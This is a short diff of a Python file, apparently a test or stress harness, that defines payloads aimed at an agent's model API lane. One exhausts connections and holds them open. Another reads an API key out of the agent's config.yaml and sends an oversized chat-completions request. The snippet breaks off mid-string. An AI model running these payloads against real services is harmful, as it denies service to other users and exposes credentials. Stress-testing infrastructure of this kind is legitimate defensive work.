@@ -362,6 +362,9 @@ while time.time() < until:
 """
 """Opens as many connections to the lane as it can, and holds them for six seconds."""
 
+HOLD_DOORS_ON = HOLD_DOORS.replace("time.sleep(6)\n", "time.sleep(1)\n", 1)
+"""Holds them just as long, and ends its call while it does: the agent speaks to its model again."""
+
 FILL_DOORS = """python: import re, socket, threading, time
 found = re.search('api_key.*?"([0-9a-f]{20,})"', open('/home/agent/.hermes/config.yaml').read())
 head = ('POST /v1/chat/completions HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 33000000\\r\\n'
